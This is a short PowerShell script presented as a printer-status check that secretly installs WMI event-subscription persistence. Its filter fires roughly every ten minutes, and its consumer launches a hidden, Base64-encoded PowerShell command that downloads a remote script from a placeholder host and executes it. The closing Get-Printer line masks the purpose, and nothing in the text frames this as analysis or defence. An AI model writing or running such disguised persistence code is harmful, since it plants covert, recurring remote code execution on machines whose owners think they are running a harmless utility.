$ns = 'root\subscription'
$filter = Set-WmiInstance -Namespace $ns -Class __EventFilter -Arguments @{
  Name = 'PrinterStatusFilter'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'
  Query = "SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"
}
$cmd = 'powershell -NoP -W Hidden -Enc ' + [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes("iex (iwr -UseBasicParsing 'https://printwatch.example.invalid/s.ps1').Content"))
$consumer = Set-WmiInstance -Namespace $ns -Class CommandLineEventConsumer -Arguments @{
  Name = 'PrinterStatusConsumer'; CommandLineTemplate = $cmd
}
Set-WmiInstance -Namespace $ns -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer } | Out-Null
Get-Printer | Select-Object Name, PrinterStatus
